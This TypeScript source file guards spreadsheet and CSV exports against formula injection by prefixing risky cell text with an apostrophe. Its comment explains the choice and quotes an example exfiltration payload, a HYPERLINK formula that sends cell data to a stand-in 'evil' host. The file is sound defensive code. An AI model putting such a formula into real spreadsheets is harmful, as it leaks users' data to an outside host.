/**
 * Formula injection: a cell whose text starts with = + - @ (or a tab / carriage return that some
 * programs skip before such a sign) can run as a formula when the file is opened or the cell edited,
 * e.g. =HYPERLINK("http://evil/?"&A1) leaking data. We prefix such text with an apostrophe:
 * - in an .xlsx string cell the apostrophe shows as a visible character in Excel, WPS and LibreOffice
 *   alike, so the reader sees the text was neutralised and nothing can evaluate it even after F2+Enter;
 * - in CSV it is the OWASP-recommended guard, and Excel/LibreOffice show the text literally;
 * - the importer (normalise-text.ts) removes exactly this apostrophe, so export → import is lossless.
 * Excel's own "quotePrefix" style would hide the apostrophe, but it is lost on copy-paste and not
 * supported by ExcelJS, so we do not rely on it.
 */
const FORMULA_TRIGGER = /^[=+\-@\t\r]/;

export function guardFormula(text: string): string {
  return FORMULA_TRIGGER.test(text) ? `'${text}` : text;
}

export function startsLikeFormula(text: string): boolean {
  return FORMULA_TRIGGER.test(text);
}
